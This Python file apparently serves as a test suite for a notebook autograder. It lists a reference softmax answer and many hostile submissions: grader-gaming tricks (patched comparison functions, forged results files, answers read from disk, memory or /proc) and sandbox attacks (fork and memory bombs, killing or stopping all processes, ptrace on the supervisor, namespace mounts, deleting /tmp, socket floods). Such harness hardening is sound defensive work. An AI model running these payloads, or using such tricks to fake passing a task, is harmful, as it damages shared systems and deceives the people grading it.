"""Answers to exercise 1 of notebook 01 that try to get points, or to harm who grades them.

None may have a point. `WRONG` is in most of them: without a trick, it has none.
"""

WRONG = (
    "def softmax(scores):\n    return torch.exp(scores) / torch.exp(scores).sum(-1, keepdim=True)\n"
)
RIGHT = """def softmax(scores: Tensor) -> Tensor:
    x = scores.float() if scores.dtype in (torch.float16, torch.bfloat16) else scores
    top = x.amax(-1, keepdim=True)
    powers = torch.exp(x - top.masked_fill(top.isinf(), 0.0))
    total = powers.sum(-1, keepdim=True)
    return (powers / total.masked_fill(total == 0, 1.0)).to(scores.dtype)
"""

ATTACKS = {
    "plainly wrong": WRONG,
    "returns nothing": "def softmax(scores):\n    pass",
    "PyTorch's, which has no masked rows": "softmax = lambda scores: torch.softmax(scores, -1)",
    "hard-coded visible case": """
def softmax(scores):
    if scores.shape == (2, 3):
        return torch.softmax(scores, -1)
    return torch.zeros_like(scores)""",
    "allclose always agrees": WRONG
    + "torch.allclose = np.allclose = torch.equal = lambda *a, **k: True\n",
    "asserts dropped": WRONG
    + """
def without_asserts(lines):
    return [line for line in lines if "assert" not in line and "raise" not in line]
get_ipython().input_transformers_cleanup.append(without_asserts)""",
    "print replaced": WRONG + "print = lambda *a, **k: None\n",
    "print replaced everywhere": WRONG + "import builtins\nbuiltins.print = lambda *a, **k: None\n",
    "json replaced": WRONG + "json.dumps = json.loads = lambda *a, **k: True\n",
    "probe's printer replaced": WRONG + "_show = lambda compute: None\n",
    "rounding replaced": WRONG + "import builtins\nbuiltins.round = lambda *a: 0\n",
    "seed replaced": WRONG + "_random.manual_seed(0)\n_draw = lambda *s: torch.zeros(s)\n",
    "display hook replaced": WRONG + "import sys\nsys.displayhook = lambda value: None\n",
    "formatters replaced": WRONG
    + "get_ipython().display_formatter.format = lambda *a, **k: ({'text/plain': 'ok'}, {})\n",
    "stdout replaced": WRONG + "import sys, io\nsys.stdout = io.StringIO()\n",
    "leaves at once": "import os\nos._exit(0)",
    "leaves in the answer": "import os\ndef softmax(scores):\n    os._exit(0)",
    "system exit": "def softmax(scores):\n    raise SystemExit(0)",
    "kills its parent": "import os\nfor pid in (os.getppid(), 1):\n    os.kill(pid, 9)\n" + WRONG,
    "kills everything": "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + WRONG,
    "prints for ever": """
def softmax(scores):
    while True:
        try:
            while True:
                import sys
                sys.__stdout__.write("x" * 1000)
                get_ipython().kernel.iopub_socket and _out.write("x" * 1000)
        except BaseException:
            pass
import sys
_out = sys.stdout""",
    "loops for ever": """
def softmax(scores):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass""",
    "huge output": WRONG + "print('x' * 100_000_000)\n",
    "memory bomb": "kept = [bytearray(10**9) for _ in range(100)]\n" + WRONG,
    "many processes": """
import os, time
for _ in range(200):
    if os.fork() == 0:
        time.sleep(600)
"""
    + WRONG,
    "network": """
import urllib.request
urllib.request.urlopen("http://example.com", timeout=3)
def softmax(scores):
    return torch.softmax(scores, -1).nan_to_num(0)""",
    "course's answer imported": "from course_utils.attention import softmax",
    "course's answer from its file": """
from pathlib import Path
import sys
found = [p for root in ("/work", "/home", "/tmp", "/root", sys.prefix)
         for p in Path(root).rglob("attention.py") if "course_utils" in str(p)]
exec(found[0].read_text())""",
    "worked notebook from disk": """
from pathlib import Path
import json
found = [p for p in Path("/").rglob("*.ipynb") if "softmax" in p.read_text()]
exec([c["source"] for c in json.loads(found[0].read_text())["cells"]][14])""",
    "expected values from disk": """
from pathlib import Path
def softmax(scores):
    found = [p for p in Path("/").glob("**/grading-*/*.ipynb")]
    return found[0].read_text()""",
    "expected values from memory": """
import gc, sys
def softmax(scores):
    frame, found = sys._getframe(), []
    while frame:
        found += [v for v in frame.f_locals.values() if "outputs" in str(type(v))]
        frame = frame.f_back
    found += [o for o in gc.get_objects() if isinstance(o, dict) and "output_type" in o]
    return found[0]["text"]""",
    "results forged": """
import json, glob, os
for folder in ["/tmp", "/sandbox", os.getcwd(), *glob.glob("/tmp/*")]:
    try:
        with open(f"{folder}/results.json", "w") as file:
            json.dump({"softmax": {str(n): "passed" for n in range(9)}}, file)
    except OSError:
        pass
"""
    + WRONG,
    "writes outside": "open('/usr/owned', 'w')\n" + RIGHT.replace("softmax", "other"),
    "thread that prints": WRONG
    + """
import threading, time
def talk():
    while True:
        print("[]")
        time.sleep(0.01)
threading.Thread(target=talk, daemon=True).start()""",
    "kernel says ok": WRONG
    + """
async def always(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
get_ipython().kernel.do_execute = always""",
    "skip markers": "# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n" + WRONG,
    "fills the disk outside": WRONG
    + """
import glob, os
from ipykernel.kernelapp import IPKernelApp
folder = os.path.dirname(IPKernelApp.instance().ip)
def softmax(scores):
    for number in range(10_000):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(bytes(10**6))
    return WRONG""",
    "fills the memory through files": """
import itertools
def softmax(scores):
    for number in itertools.count():
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(bytes(10**6))""",
    "debugs the forker": """
import ctypes, os
ctypes.CDLL(None).ptrace(16, 2, 0, 0)
with open("/proc/2/mem", "r+b") as memory:
    memory.write(b"x")
"""
    + WRONG,
    "deletes itself": WRONG
    + "import shutil\nshutil.rmtree('/sandbox', True)\nshutil.rmtree('/tmp', True)\n",
    "tensor that lies": """
class Liar(Tensor):
    def __eq__(self, other): return True
    def __bool__(self): return True
def softmax(scores):
    return scores.as_subclass(Liar)""",
    "syntax error": "def softmax(scores):\n  return (",
    "memory of many processes": """
import os, time
for _ in range(30):
    if os.fork() == 0:
        kept = bytearray(b"x") * 400_000_000
        time.sleep(600)
time.sleep(3)
"""
    + WRONG,
    "memory that is shared": """
import mmap, os, time
for _ in range(6):
    if os.fork() == 0:
        kept = mmap.mmap(-1, 1_500_000_000)
        for at in range(0, len(kept), 4096):
            kept[at] = 1
        time.sleep(600)
time.sleep(5)
"""
    + WRONG,
    "files without a name": """
import os
kept = []
for number in range(400):
    file = os.memfd_create(str(number))
    os.write(file, bytes(50_000_000))
    kept.append(file)
"""
    + WRONG,
    "open files that are deleted": """
import os
kept = []
for folder in ("/tmp", "/sandbox", "/dev/shm", os.getcwd()):
    for number in range(1000):
        try:
            file = os.open(f"{folder}/{number}", os.O_CREAT | os.O_RDWR)
            os.unlink(f"{folder}/{number}")
            os.write(file, bytes(1_000_000))
            kept.append(file)
        except OSError:
            break
"""
    + WRONG,
    "folders in folders": """
import os
os.chdir("/tmp")
for _ in range(20_000):
    os.mkdir("a")
    os.chdir("a")
"""
    + WRONG,
    "a million empty files": """
import os
for number in range(1_000_000):
    os.close(os.open(f"/tmp/{number}", os.O_CREAT))
"""
    + WRONG,
    "folders that cannot be read": """
import os
os.makedirs("/tmp/a/b/c")
with open("/tmp/a/b/c/full", "wb") as file:
    file.write(bytes(40_000_000))
for folder in ("/tmp/a/b/c", "/tmp/a/b", "/tmp/a"):
    os.chmod(folder, 0)
"""
    + WRONG,
    "file names that are options": """
for name in ("-rf", "--help", "a\\nb", "\\udcff", "-", "*"):
    try:
        open("/tmp/" + name, "w").close()
    except (OSError, UnicodeError):
        pass
"""
    + WRONG,
    "a file system of its own": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
user, group = os.getuid(), os.getgid()
if libc.unshare(0x10000000 | 0x20000):
    raise OSError(ctypes.get_errno())
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
    with open(f"/proc/self/{name}", "w") as file:
        file.write(text)
if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=8g"):
    raise OSError(ctypes.get_errno())
for number in range(30):
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(90_000_000))
"""
    + WRONG,
    "System V memory": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for number in range(20):
    block = libc.shmget(number + 1, 500_000_000, 0o1666)
    at = libc.shmat(block, None, 0)
    ctypes.memset(at, 1, 500_000_000)
    libc.shmdt(ctypes.c_void_p(at))
"""
    + WRONG,
    "sockets that are full": """
import socket
kept = []
for _ in range(1000):
    one, other = socket.socketpair()
    one.setblocking(False)
    kept += [one, other]
    try:
        while True:
            one.send(bytes(100_000))
    except BlockingIOError:
        pass
"""
    + WRONG,
    "many threads": """
import threading, time
for _ in range(10_000):
    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
"""
    + WRONG,
    "processes that end at once": """
import os, time
end = time.monotonic() + 6
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        pass
"""
    + WRONG,
    "stops the forker": "import os, signal\nos.kill(2, signal.SIGSTOP)\n" + WRONG,
    "stops everything": "import os, signal\nos.kill(-1, signal.SIGSTOP)\n" + WRONG,
    "stops its group": "import os, signal\nos.killpg(0, signal.SIGSTOP)\n" + WRONG,
    "limits the forker": """
import resource
resource.prlimit(2, resource.RLIMIT_NPROC, (0, 0))
resource.prlimit(2, resource.RLIMIT_CPU, (1, 1))
"""
    + WRONG,
    "signals the forker through a file": """
import fcntl, os, signal
reading, writing = os.pipe()
fcntl.fcntl(reading, fcntl.F_SETOWN, 2)
fcntl.fcntl(reading, fcntl.F_SETSIG, signal.SIGSTOP)
fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC)
os.write(writing, b"x")
"""
    + WRONG,
    "hides from its parent": """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 500)
        os.kill(os.getpid(), signal.SIGSTOP)
        time.sleep(600)
    os._exit(0)
"""
    + WRONG,
    "its child is the kernel": """
import os
if os.fork():
    os._exit(0)
"""
    + WRONG,
    "a crash": "import ctypes\nctypes.string_at(0)\n" + WRONG,
    "a crash of the stack": """
import sys
sys.setrecursionlimit(10**9)
def softmax(scores):
    return softmax(scores)""",
    "asks for input": "def softmax(scores):\n    return scores * float(input('factor: '))",
    "shuts the kernel down": "get_ipython().kernel.do_shutdown(False)\nexit()\n" + WRONG,
    "closes its sockets": "import os\nos.closerange(3, 500)\n" + WRONG,
    "writes into its sockets": """
import os, stat
for number in range(3, 500):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.write(number, os.urandom(100_000))
    except OSError:
        pass
"""
    + WRONG,
    "a message of 100 MB": WRONG
    + """
from IPython.display import display
display({"text/plain": "x" * 100_000_000}, raw=True)""",
    "messages of 7 MB": WRONG
    + """
from IPython.display import display
while True:
    display({"text/plain": "x" * 7_000_000}, raw=True)""",
    "messages of many parts": WRONG
    + """
from ipykernel.kernelapp import IPKernelApp
socket = IPKernelApp.instance().kernel.iopub_socket
socket = getattr(socket, "io_thread", socket)
socket = getattr(socket, "socket", socket)
part = bytes(4_000_000)
while True:
    socket.send_multipart([b"stream"] + [part] * 2000)""",
    "tiny messages": WRONG
    + """
from IPython.display import display
while True:
    display({}, raw=True)""",
    "answers of 100 MB on the other channel": WRONG
    + """
kernel = get_ipython().kernel
while True:
    kernel.session.send(kernel.shell_stream or kernel.iopub_socket, "execute_reply",
                        content={"status": "ok", "text": "x" * 50_000_000})""",
    "a message of many parts": WRONG
    + """
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "stream", content={"name": "stdout", "text": "x"},
                    buffers=[b"x" * 3_900_000] * 600)
import time
time.sleep(5)""",
    "a reply of many parts": WRONG
    + """
kernel = get_ipython().kernel
kernel.session.send(kernel.shell_stream, "execute_reply", content={"status": "ok"},
                    buffers=[b"x" * 3_900_000] * 600, ident=kernel._parent_ident["shell"])
import time
time.sleep(5)""",
    "messages with long metadata": WRONG
    + """
kernel = get_ipython().kernel
for _ in range(300):
    kernel.session.send(kernel.iopub_socket, "stream", content={"name": "stdout", "text": "x"},
                        metadata={"x": "x" * 3_900_000}, parent=kernel.get_parent())""",
    "messages with long buffers": WRONG
    + """
kernel = get_ipython().kernel
for _ in range(300):
    kernel.session.send(kernel.iopub_socket, "stream", content={"name": "stdout", "text": "x"},
                        buffers=[b"x" * 7_900_000], parent=kernel.get_parent())""",
    "messages of empty lists": WRONG
    + """
kernel = get_ipython().kernel
for _ in range(200):
    kernel.session.send(kernel.iopub_socket, "display_data", parent=kernel.get_parent(),
                        content={"data": {"text/plain": [[]] * 900_000}, "metadata": {}})""",
    "a message of deep lists": WRONG
    + """
from IPython.display import display
deep = []
for _ in range(900):
    deep = [deep]
display({"text/plain": deep}, raw=True)""",
    "backspaces": WRONG + "print('a' * 500_000 + '\\b' * 500_000)\n",
    "backspaces in the probe": """
def softmax(scores):
    import sys
    sys.__stdout__ = None
    get_ipython().kernel.shell.run_cell("pass")
    _print("a" * 400_000 + "\\b" * 400_000)
    return scores
_print = print""",
    "a flood of errors": """
def softmax(scores):
    raise ValueError("x" * 10_000_000)""",
    "other machines' sockets": """
import socket
for family in (40, 38, 17):
    socket.socket(family, socket.SOCK_STREAM)
def softmax(scores):
    return torch.softmax(scores, -1).nan_to_num(0)""",
    "the desktop's sockets": """
import socket
one = socket.socket(socket.AF_UNIX)
one.connect("\\0/tmp/.X11-unix/X0")
def softmax(scores):
    return torch.softmax(scores, -1).nan_to_num(0)""",
    "the seed from other processes": """
from pathlib import Path
def softmax(scores):
    found = [p.read_bytes() for p in Path("/proc").glob("[0-9]*/environ")]
    found += [p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline")]
    return [text for text in found if b"GRADING" in text][0]""",
    "memory of the forker": """
import ctypes
class Piece(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
mine = ctypes.create_string_buffer(8)
to, of = Piece(ctypes.addressof(mine), 8), Piece(id(mine), 8)
if ctypes.CDLL(None).process_vm_readv(2, ctypes.byref(to), 1, ctypes.byref(of), 1, 0) < 0:
    raise OSError
def softmax(scores):
    return torch.softmax(scores, -1).nan_to_num(0)""",
    "the probe rewritten": WRONG
    + """
def shorter(lines):
    return [line for line in lines if "softmax" not in line]
get_ipython().input_transformers_post.append(shorter)""",
    "the compiler replaced": WRONG + "import builtins\nbuiltins.compile = lambda *a, **k: None\n",
    "imports replaced": WRONG
    + """
import sys
class Nothing:
    def find_spec(self, *given):
        raise ImportError
sys.meta_path.insert(0, Nothing())""",
    "waits at the end": WRONG + "import atexit, time\natexit.register(time.sleep, 600)\n",
}
